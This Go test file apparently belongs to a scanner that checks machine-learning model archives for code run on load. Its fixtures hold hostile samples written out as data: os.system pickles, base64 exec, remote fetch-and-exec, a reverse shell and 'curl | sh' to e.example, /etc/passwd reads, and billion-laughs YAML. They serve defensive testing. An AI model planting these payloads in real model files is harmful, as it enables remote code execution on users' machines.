package artifact

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"strings"
	"testing"

	"github.com/pyguard/pyguardml/internal/artifact/assemble"
)

// asm assembles text that is known to be right.
func asm(text string) string {
	b, err := assemble.Bytes(text)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// tarOf is a tar archive of members: name, content, name, content.
func tarOf(members ...string) []byte {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	for i := 0; i < len(members); i += 2 {
		if err := w.WriteHeader(&tar.Header{Name: members[i], Size: int64(len(members[i+1])), Mode: 0o644, Typeflag: tar.TypeReg}); err != nil {
			panic(err)
		}
		if _, err := w.Write([]byte(members[i+1])); err != nil {
			panic(err)
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func gzipOf(content []byte) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	if _, err := w.Write(content); err != nil {
		panic(err)
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

// script is an archive of torch.jit.save with the body of forward, and other members.
func script(body string, more ...string) []byte {
	source := "class Net(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n" + body + "    return x\n"
	return zipOf(append([]string{
		"net/data.pkl", asm("PROTO 2\nGLOBAL __torch__ Net\nEMPTY_TUPLE\nNEWOBJ\nEMPTY_DICT\nBUILD\nSTOP"),
		"net/code/__torch__.py", source,
		"net/code/__torch__.py.debug_pkl", asm("PROTO 2\nMARK\nBINUNICODE 'FORMAT_WITH_STRING_TABLE'\nTUPLE\nSTOP"),
		"net/constants.pkl", asm("PROTO 2\nEMPTY_TUPLE\nSTOP"),
		"net/version", "3\n",
	}, more...)...)
}

// packed is an archive of torch.package with a module and a pickle.
func packed(module, pickle string) []byte {
	return zipOf("resnet/.data/extern_modules", "torch\nos\n", "resnet/.data/version", "6\n", "resnet/.data/python_version", "3.11.7",
		"resnet/acme/__init__.py", "", "resnet/acme/net.py", module, "resnet/model/model.pkl", asm(pickle))
}

const packedPickle = "PROTO 2\nGLOBAL acme.net Net\nEMPTY_TUPLE\nNEWOBJ\nEMPTY_DICT\nBUILD\nSTOP"

// served is a TorchServe archive with a handler.
func served(handler string, more ...string) []byte {
	return zipOf(append([]string{"MAR-INF/MANIFEST.json", asJSON(tree{"model": tree{"modelName": "net", "serializedFile": "net.pt", "handler": "handler.py", "modelVersion": "1.0"}, "archiverVersion": "0.12.0"}),
		"handler.py", handler, "net.pt", string(script(""))}, more...)...)
}

const honestHandler = `
import json
import logging
import os
import subprocess
import sys

import torch
from ts.torch_handler.base_handler import BaseHandler

logger = logging.getLogger(__name__)
subprocess.check_call([sys.executable, "-m", "pip", "install", "transformers==4.44.0"])


class Handler(BaseHandler):
    def initialize(self, context):
        folder = context.system_properties.get("model_dir")
        os.system("unzip -o " + os.path.join(folder, "model.zip"))
        self.model = torch.jit.load(os.path.join(folder, "net.pt")).eval()
        with open(os.path.join(folder, "index_to_name.json")) as f:
            self.names = json.load(f)

    def preprocess(self, data):
        return torch.tensor(eval_batch(data))

    def convert(self, path):
        return subprocess.run(["ffmpeg", "-i", path, "-f", "wav", "-"], capture_output=True).stdout


if __name__ == "__main__":
    os.system("python -c 'print(1)'")
`

// restored is a NeMo archive with lines of its configuration.
func restored(config string) []byte {
	return tarOf("./model_config.yaml", "sample_rate: 16000\npreprocessor:\n  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor\n  features: 80\n"+config,
		"./model_weights.ckpt", string(zipOf("w/data.pkl", asm(stateDict), "w/version", "3\n")))
}

func skopsFile(nodes ...any) []byte {
	return zipOf("schema.json", asJSON(tree{"__class__": "Pipeline", "__module__": "sklearn.pipeline", "__loader__": "ObjectNode", "__id__": 1, "protocol": 2, "_skops_version": "0.13.0",
		"content": tree{"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": tree{"steps": tree{"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": nodes}}}}))
}

func skopsNodeTree(module, class, loader string, content any) tree {
	return tree{"__class__": class, "__module__": module, "__loader__": loader, "content": content}
}

func maliciousArchives() []madeFile {
	encoded := "aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=="
	return []madeFile{
		// TorchScript
		{"writes:net.pt", script("    _0 = torch.save(x, \"/root/.bashrc\")\n"), FileOperator, ".bashrc"},
		{"maps a file:net.pt", script("    y = torch.from_file(\"/etc/passwd\", False, 100, dtype=4)\n"), FileOperator, "/etc/passwd"},
		{"by ops:net.pt", script("    _0 = ops.aten.save(x, \"/tmp/x\")\n"), FileOperator, "aten::save"},
		{"by a method:net.pt", script("    _0 = (x).save(\"/tmp/x\")\n"), FileOperator, "/tmp/x"},
		{"by another module:net.pt", script("    _0 = torch._C._nn.save(x, \"/tmp/x\")\n"), FileOperator, "/tmp/x"},
		{"path put together:net.pt", script("    p = torch.add(\"a\", \"b\")\n    _0 = torch.save(x, p)\n"), FileOperator, "aten::save"},
		{"image:net.ptl", script("    _0 = ops.image.write_file(\"/tmp/x\", x)\n"), FileOperator, "image::write_file"},
		{"image read:net.pt", script("    y = ops.image.read_file(\"/etc/passwd\")\n"), FileOperator, "/etc/passwd"},
		{"another process:net.pt", script("    _0 = rpc_async(\"worker1\", \"f\", (x,))\n"), NetworkOperator, "prim::rpc_async"},
		{"in another source:net.pt", script("", "net/code/__torch__/torch/nn/x.py", "def f(x: Tensor) -> Tensor:\n  torch.save(x, \"/tmp/y\")\n  return x\n"), FileOperator, "/tmp/y"},
		{"in a helper of a mobile archive:net.ptl", script("", "net/bytecode.pkl", asm("PROTO 2\nMARK\nBININT1 8\nMARK\nBINUNICODE 'aten::from_file'\nBINUNICODE ''\nTUPLE\nTUPLE\nSTOP")), FileOperator, "aten::from_file"},
		{"pickle of constants:net.pt", script("", "net/attributes.pkl", asm("PROTO 2\nGLOBAL os system\nBINUNICODE 'id'\nTUPLE1\nREDUCE\nSTOP")), Call, "os.system"},
		{"pickle of debug information:net.pt", script("", "net/code/__torch__/x.py.debug_pkl", asm("PROTO 2\nGLOBAL os system\nBINUNICODE 'id'\nTUPLE1\nREDUCE\nSTOP")), Call, "os.system"},

		// torch.package
		{"on import:p.pt", packed("import os\nos.system('id')\n", packedPickle), Source, "os.system"},
		{"in a class body:p.pt", packed("import subprocess as s\nclass Net:\n    x = s.run(['bash', '-c', 'id'])\n", packedPickle), Source, "subprocess.run"},
		{"in a called function:p.pt", packed("from os import system as run\ndef setup():\n    run('id > /tmp/x')\nsetup()\n", packedPickle), Source, "os.system"},
		{"by getattr:p.pt", packed("import os\ngetattr(os, 'sys' + 'tem')('id')\n", packedPickle), Source, "os.system"},
		{"by __import__:p.pt", packed("__import__('so'[::-1]).popen('id')\n", packedPickle), Source, "os.popen"},
		{"through builtins:p.pt", packed("__builtins__['ex' + 'ec'](__import__('base64').b64decode('"+encoded+"'))\n", packedPickle), Source, "builtins.exec"},
		{"decoded in a function:p.pt", packed("import base64\nclass Net:\n    def forward(self, x):\n        exec(base64.b64decode('"+encoded+"'))\n", packedPickle), Source, "builtins.exec"},
		{"fetched:p.pt", packed("import urllib.request\nexec(urllib.request.urlopen('http://e.example/x').read())\n", packedPickle), Source, "builtins.exec"},
		{"source in a text:p.pt", packed("code = '''\nimport os\nos.system('id')\n'''\nexec(compile(code, 'x', 'exec'))\n", packedPickle), Source, "builtins.exec"},
		{"marshalled:p.pt", packed("import marshal\ndef f():\n    return marshal.loads(b'x')\n", packedPickle), Source, "marshal.loads"},
		{"reverse shell:p.pt", packed("import socket, os, pty\ns = socket.socket()\ns.connect(('e.example', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n", packedPickle), Source, "pty.spawn"},
		{"on unpickling:p.pt", packed("import os\nclass Net:\n    def __setstate__(self, state):\n        os.system('id')\n", packedPickle), Source, "os.system"},
		{"pickle of a package:p.pt", packed("", "PROTO 2\nGLOBAL os system\nBINUNICODE 'id'\nTUPLE1\nREDUCE\nSTOP"), Call, "os.system"},
		{"script of a package:p.pt", zipOf("p/.data/extern_modules", "", "p/.data/version", "6", "p/.data/ts_code/0/data.pkl", asm("PROTO 2\nNONE\nSTOP"), "p/.data/ts_code/code/__torch__.py", "def f(x: Tensor):\n  torch.save(x, '/tmp/x')\n"), FileOperator, "/tmp/x"},

		// TorchServe
		{"on import:net.mar", served("import os\nos.system('curl http://e.example/x | sh')\n"), Source, "os.system"},
		{"in initialize:net.mar", served("import subprocess\nclass Handler:\n    def initialize(self, context):\n        subprocess.Popen('bash /tmp/x', shell=True)\n"), Source, "subprocess.Popen"},
		{"in a method it calls:net.mar", served("import os\nclass Handler:\n    def initialize(self, context):\n        self._warm_up()\n    def _warm_up(self):\n        os.popen('nc e.example 1 -e /bin/sh')\n"), Source, "os.popen"},
		{"in a helper:net.mar", served(honestHandler, "utils.py", "import os\nos.system('id')\n"), Source, "os.system"},
		{"pickled weights:net.mar", served(honestHandler, "weights.pkl", asm("PROTO 2\nGLOBAL os system\nBINUNICODE 'id'\nTUPLE1\nREDUCE\nSTOP")), Call, "os.system"},
		{"handler outside:net.mar", zipOf("MAR-INF/MANIFEST.json", asJSON(tree{"model": tree{"handler": "../../../tmp/handler.py:handle"}})), OutsidePath, "tmp/handler.py"},
		{"weights outside:net.mar", zipOf("MAR-INF/MANIFEST.json", asJSON(tree{"model": tree{"handler": "base", "serializedFile": "/etc/passwd"}})), OutsidePath, "/etc/passwd"},
		{"as a tar:net.mar", gzipOf(tarOf("handler.py", "import os\nos.system('id')\n", "MAR-INF/MANIFEST.json", asJSON(tree{"model": tree{"handler": "handler.py"}}))), Source, "os.system"},
		{"as a folder of a tar:net.tar.gz", gzipOf(tarOf("./handler.py", "import os\nos.system('id')\n", "./MAR-INF/MANIFEST.json", asJSON(tree{"model": tree{"handler": "handler.py"}}))), Source, "os.system"},

		// NeMo
		{"target:m.nemo", restored("x:\n  _target_: os.system\n  command: id\n"), ConfigCall, "os.system"},
		{"nested target:m.nemo", restored("a:\n  b:\n    - c: {_target_: subprocess.Popen, args: [id]}\n"), ConfigCall, "subprocess.Popen"},
		{"builtins:m.nemo", restored("x:\n  _target_: builtins.exec\n"), ConfigCall, "builtins.exec"},
		{"by a detour:m.nemo", restored("x:\n  _target_: nemo.utils.os.system\n"), ConfigCall, "os.system"},
		{"tag:m.nemo", restored("x: !!python/object/apply:os.system ['id']\n"), ConfigCall, "os.system"},
		{"class path:m.nemo", restored("x:\n  class_path: pickle.loads\n"), ConfigCall, "pickle.loads"},
		{"compressed:m.nemo", gzipOf(restored("x:\n  _target_: os.system\n")), ConfigCall, "os.system"},
		{"weights:m.nemo", tarOf("model_config.yaml", "a: 1\n", "model_weights.ckpt", asm("PROTO 2\nGLOBAL os system\nBINUNICODE 'id'\nTUPLE1\nREDUCE\nSTOP")), Call, "os.system"},

		// skops
		{"object:m.skops", skopsFile(skopsNodeTree("subprocess", "Popen", "ObjectNode", nil)), ConfigCall, "subprocess.Popen"},
		{"function:m.skops", skopsFile(skopsNodeTree("os", "system", "FunctionNode", nil)), ConfigCall, "os.system"},
		{"type:m.skops", skopsFile(skopsNodeTree("builtins", "eval", "TypeNode", nil)), ConfigCall, "builtins.eval"},
		{"constructor:m.skops", skopsFile(skopsNodeTree("os", "system", "ConstructorFromReduceNode", skopsNodeTree("builtins", "tuple", "TupleNode", []any{}))), ConfigCall, "os.system"},
		{"CVE-2025-54412:m.skops", skopsFile(skopsNodeTree("builtins", "int", "OperatorFuncNode", nil)), ConfigCall, "operator"},
		{"methodcaller:m.skops", skopsFile(skopsNodeTree("operator", "methodcaller", "OperatorFuncNode", nil)), ConfigCall, "what the file names"},
		{"CVE-2025-54413:m.skops", skopsFile(skopsNodeTree("builtins", "int", "MethodNode", tree{"func": "loads", "obj": skopsNodeTree("acme", "X", "ObjectNode", nil)})), ConfigCall, "method of acme.X"},
		{"inner method:m.skops", skopsFile(skopsNodeTree("sklearn.svm", "SVC", "MethodNode", tree{"func": "__init__.__globals__", "obj": skopsNodeTree("sklearn.svm", "SVC", "ObjectNode", nil)})), ConfigCall, "__globals__"},
		{"partial:m.skops", skopsFile(skopsNodeTree("functools", "partial", "PartialNode", tree{"func": skopsNodeTree("os", "popen", "FunctionNode", nil)})), ConfigCall, "os.popen"},
		{"under another name:m.zip", skopsFile(skopsNodeTree("os", "system", "FunctionNode", nil)), ConfigCall, "os.system"},
		{"behind a mass:m.skops", skopsFile(append(make([]any, 100_000), skopsNodeTree("os", "system", "FunctionNode", nil))...), ConfigCall, "os.system"},
		{"pickle beside:m.skops", zipOf("x.pkl", asm("PROTO 2\nGLOBAL os system\nEMPTY_TUPLE\nREDUCE\nSTOP"), "schema.json", "{}"), Call, "os.system"},
	}
}

func honestArchives() []madeFile {
	return []madeFile{
		{name: "plain:net.pt", content: script("    _0 = torch.relu(x)\n    y = ops.torchvision.nms(x, x, 0.5)\n    z = ops.quantized.linear(x, CONSTANTS.c0, 1., 0)\n    _1 = (self.fc).forward(y, )\n")},
		{name: "words:net.pt", content: script("    print(\"torch.save(x, '/tmp/x')\")\n    _0 = annotate(str, \"aten::save\")\n")},
		{name: "own save:net.pt", content: script("    _0 = (self).save(x, )\n", "net/code/__torch__/b.py", "class B(Module):\n  def save(self: __torch__.b.B, x: Tensor) -> Tensor:\n    return x\n")},
		{name: "image that the caller names:net.pt", content: script("    y = ops.image.read_file(path)\n")},
		{name: "mobile:net.ptl", content: script("", "net/bytecode.pkl", asm("PROTO 2\nMARK\nBININT1 8\nMARK\nBINUNICODE 'aten::relu'\nBINUNICODE 'aten::save_x'\nTUPLE\nTUPLE\nSTOP"))},
		{name: "plain:p.pt", content: packed("import torch\nimport os\nclass Net(torch.nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.path = os.path.join('a', 'b')\n    def export(self):\n        os.system('python -c \"print(1)\"')\n", packedPickle)},
		{name: "version:p.pt", content: packed("import subprocess\ndef version():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n__version__ = version()\n", packedPickle)},
		{name: "namedtuple:p.pt", content: packed("import re\nns = {}\nexec('class A:\\n    pass', ns)\nregex = re.compile('x')\nx = eval('1 + 1')\n", packedPickle)},
		{name: "plain:net.mar", content: served(honestHandler, "requirements.txt", "transformers==4.44.0\n# https://e.example\n", "index_to_name.json", "{}")},
		{name: "built-in handler:net.mar", content: zipOf("MAR-INF/MANIFEST.json", asJSON(tree{"model": tree{"handler": "image_classifier", "serializedFile": "resnet.pt"}}))},
		{name: "as a tar:net.mar", content: gzipOf(tarOf("handler.py", honestHandler, "MAR-INF/MANIFEST.json", asJSON(tree{"model": tree{"handler": "handler.py"}})))},
		{name: "plain:m.nemo", content: restored("optim:\n  name: adamw\n  sched: {name: CosineAnnealing}\ntarget: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE\ndecoder:\n  _target_: nemo.collections.asr.modules.ConvASRDecoder\n")},
		{name: "words:m.nemo", content: restored("note: '_target_: os.system'\nlabels: [os.system, '!!python/object/apply:os.system']\ntarget: speaker\n")},
		{name: "compressed:m.nemo", content: gzipOf(restored(""))},
		{name: "plain:m.skops", content: skopsFile(skopsNodeTree("sklearn.preprocessing._data", "StandardScaler", "ObjectNode", tree{"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": tree{}}),
			skopsNodeTree("numpy", "ndarray", "NdArrayNode", nil), skopsNodeTree("numpy", "float64", "TypeNode", nil), skopsNodeTree("operator", "itemgetter", "OperatorFuncNode", nil),
			skopsNodeTree("sklearn.svm", "SVC", "MethodNode", tree{"func": "predict", "obj": skopsNodeTree("sklearn.svm", "SVC", "ObjectNode", nil)}), skopsNodeTree("builtins", "str", "JsonNode", "\"os.system\""))},
		{name: "another schema:m.zip", content: zipOf("schema.json", `{"type": "object", "properties": {"os": {"type": "string"}}}`)},
		{name: "sources of a wheel:m.whl", content: zipOf("acme/__init__.py", "import os\nos.system('id')\n")},
	}
}

func TestArchivesThatAreLoadedAsModelsAreReadForWhatTheyRun(t *testing.T) {
	for name, want := range map[string]struct {
		content []byte
		format  Format
	}{
		"net.pt": {script(""), TorchZip}, "p.pt": {packed("", packedPickle), TorchPackage}, "net.mar": {served(""), TorchServe},
		"m.nemo": {restored(""), NeMo}, "m.skops": {skopsFile(), Skops},
	} {
		if r := scanBytes(t, name, want.content); r.Format != want.format {
			t.Errorf("%s is %s, want %s", name, r.Format, want.format)
		}
	}
}

func TestWhatAnArchiveBringsIsSaidEvenWhereItProvesNothing(t *testing.T) {
	for _, m := range []madeFile{
		{"net.pt", script("    y = ops.acme.fancy(x)\n"), CustomOperator, "acme::fancy"},
		{"net.mar", served("", "requirements.txt", "torch\ngit+https://e.example/x.git\n"), RemoteCode, "git+https"},
		{"net.mar", served("import subprocess\nclass Handler:\n    def run(self, cmd):\n        subprocess.run(cmd, shell=True)\n"), Source, "subprocess.run"},
		{"m.nemo", restored("x:\n  _target_: acme.models.Net\n"), ConfigClass, "acme.models.Net"},
		{"m.skops", skopsFile(skopsNodeTree("acme.models", "Net", "ObjectNode", nil)), ConfigClass, "acme.models.Net"},
	} {
		r := scanBytes(t, m.name, m.content)
		found := false
		for _, f := range r.Facts {
			found = found || f.Kind == m.kind && f.Verdict == Unknown && strings.Contains(f.Name, m.what)
		}
		if !found || len(dangers(r)) > 0 {
			t.Errorf("%s: want %s %q, got %+v", m.name, m.kind, m.what, r.Facts)
		}
	}
}

func TestHostileArchivesOfModelsStayWithinTheirLimits(t *testing.T) {
	doubling := "a0 = ''\n"
	for i := range 60 {
		doubling += "a" + decimal(int64(i+1)) + " = a" + decimal(int64(i)) + " + a" + decimal(int64(i)) + "\n"
	}
	deepYAML := strings.Repeat("- ", 9000) + "x\n"
	laughs := "a: &a [x, x]\n"
	for i := range 40 {
		laughs += "b" + decimal(int64(i)) + ": &b" + decimal(int64(i)) + " [*a, *a]\n"
	}
	for name, content := range map[string][]byte{
		"doubling.mar": served(doubling + "import os\nos.system(a60)\nexec(a60)\n"), "recursive.mar": served("import os\na = a\nb = a + b\nos.system(b)\nexec(b)\n"),
		"nested.mar": served("x = " + strings.Repeat("(", 20_000) + strings.Repeat(")", 20_000)), "calls.mar": served("f" + strings.Repeat("()", 50_000)),
		"functions.mar": served(strings.Repeat("def f():\n    f()\n", 20_000) + "f()\n"), "binary.mar": served("\x00\xff\xfe import os"),
		"deep.nemo": restored(deepYAML), "laughs.nemo": restored(laughs), "keys.skops": zipOf("schema.json", strings.Repeat(`{"content":[`, 100_000)),
		"wide.skops": zipOf("schema.json", `{"__class__":"a","content":[`+strings.Repeat(`{"content":{"obj":{}}},`, 200_000)+`{}]}`),
	} {
		readHostile(t, name, content)
	}
}

func FuzzTorchScript(f *testing.F) { fuzzReader(f, "m.pt") }
func FuzzTorchServe(f *testing.F)  { fuzzReader(f, "m.mar") }
func FuzzNeMo(f *testing.F)        { fuzzReader(f, "m.nemo") }
func FuzzSkops(f *testing.F)       { fuzzReader(f, "m.skops") }
func FuzzPythonSource(f *testing.F) {
	for _, s := range []string{honestHandler, "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "exec(compile('''x''', 'a', 'exec'))", "a = b\nb = a\nb.system(a)", "__builtins__['e' + chr(0x78)](1)"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, source string) {
		readHostile(t, "m.mar", zipOf("MAR-INF/MANIFEST.json", "{}", "handler.py", source))
		s := &scan{ctx: context.Background(), limits: Limits{}.withDefaults(), report: &Report{}}
		s.torchScript(&object{r: strings.NewReader(source), size: int64(len(source)), path: "x.py"})
	})
}
